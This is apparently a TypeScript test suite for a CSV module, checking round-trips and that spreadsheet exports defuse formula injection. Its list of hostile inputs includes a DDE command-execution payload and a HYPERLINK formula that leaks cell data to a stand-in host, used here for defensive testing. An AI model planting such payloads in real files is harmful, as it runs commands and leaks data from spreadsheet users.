import { readFile } from "node:fs/promises";
import { expect } from "chai";
import fc from "fast-check";
import { csvRow } from "../../scripts/files/table/csvRow.ts";
import { readTable } from "../../scripts/files/table/readTable.ts";
import { sheetOf } from "../../scripts/files/table/sheetOf.ts";
import { type Folder, openFolder } from "./support/files.ts";

/** What begins a formula in some spreadsheet, and what can hide it. */
const HOSTILE = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "＝1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"more")',
  "x;=1+1",
  "x; =1+1",
  "x\t=1+1",
  "x\n=1+1",
  "-",
  "--1",
  "+1 555 0100",
];

describe("CSV files", () => {
  let folder: Folder;

  before(async () => {
    folder = await openFolder();
  });
  after(() => folder.remove());

  const columns = { required: ["a", "b"] };
  const readBack = async (text: string) => {
    const rows = await readTable(await folder.write("file.csv", text), columns);
    return rows.map((row) => [row.get("a"), row.get("b")]);
  };

  it("for programs read back exactly as they were written", async () => {
    const field = fc.oneof(
      fc.constantFrom("", " ", "\t", '"', ",", "\r", "\n", "\r\n", "\ufeff", ...HOSTILE),
      // No text has a NUL, and files with one are refused; accents are read composed.
      fc.string({ unit: "binary" }).map((text) => text.replaceAll("\0", "").normalize("NFC")),
    );
    const row = fc.tuple(field, field).filter((fields) => fields.some((one) => one !== ""));
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1 }), async (rows) => {
        const text = [["a", "b"], ...rows].map(csvRow).join("");
        expect(await readBack(text)).to.deep.equal(rows);
      }),
      { numRuns: 300 },
    );
  });

  it("keep a line with nothing on it", async () => {
    const file = await folder.write("one.csv", ["a", "", "x"].map((one) => csvRow([one])).join(""));
    const rows = await readTable(file, { required: ["a"] });
    expect(rows.map((row) => row.get("a"))).to.deep.equal(["", "x"]);
  });

  it("pass over separators alone, which spreadsheets leave under a table", async () => {
    const text = "a,b,c\n1,2,3\n,,\n4,,6\n,,,,\n";
    const rows = await readTable(await folder.write("blank.csv", text), {
      required: ["a"],
      open: true,
    });
    expect(rows.map((one) => [one.line, one.get("a"), one.get("c")])).to.deep.equal([
      [2, "1", "3"],
      [4, "4", "6"],
    ]);
  });

  describe("for spreadsheets", () => {
    for (const text of HOSTILE) {
      it(`hold no formula of ${JSON.stringify(text)}`, async () => {
        const sheet = sheetOf(["a", "b"], [[text, `${text}"`]]);
        const [cells] = await readBack(sheet);
        for (const cell of cells ?? []) {
          // However a spreadsheet parts cells, none of them begins with a formula.
          for (const part of cell.split(/[;\t\r\n]/)) expect(part).to.not.match(/^\s*[=+\-@＝]/u);
          expect(cell.replaceAll("'", "")).to.equal(
            (cell === cells?.[0] ? text : `${text}"`).replaceAll("'", ""),
          );
        }
      });
    }

    it("hold no formula of anything at all", async () => {
      const text = fc.string({ unit: fc.constantFrom(..."=+-@＝;\t\r\n ,\"'a1\u00a0\u200b") });
      await fc.assert(
        fc.asyncProperty(text, async (one) => {
          const [cells] = await readBack(sheetOf(["a", "b"], [[one, "x"]]));
          const [cell = ""] = cells ?? [];
          if (/^[+-]?\d+(\.\d+)?$/.test(cell)) return;
          for (const part of cell.split(/[;\t\r\n]/))
            expect(part).to.not.match(/^[\s\u200b]*[=+\-@＝]/u);
        }),
        { numRuns: 500 },
      );
    });

    it("leave numbers, names and dates alone", async () => {
      const plain = ["-12.5", "+3", "0.000001", "Ana Ünal", "O'Neil", "2026-01-31", "a=b", "x-1"];
      const sheet = sheetOf(
        ["a", "b"],
        plain.map((one) => [one, "12"]),
      );
      expect(await readBack(sheet)).to.deep.equal(plain.map((one) => [one, "12"]));
    });

    it("say that they are UTF-8", async () => {
      const path = await folder.write("sheet.csv", sheetOf(["a"], [["é"]]));
      expect([...(await readFile(path)).subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    });
  });
});
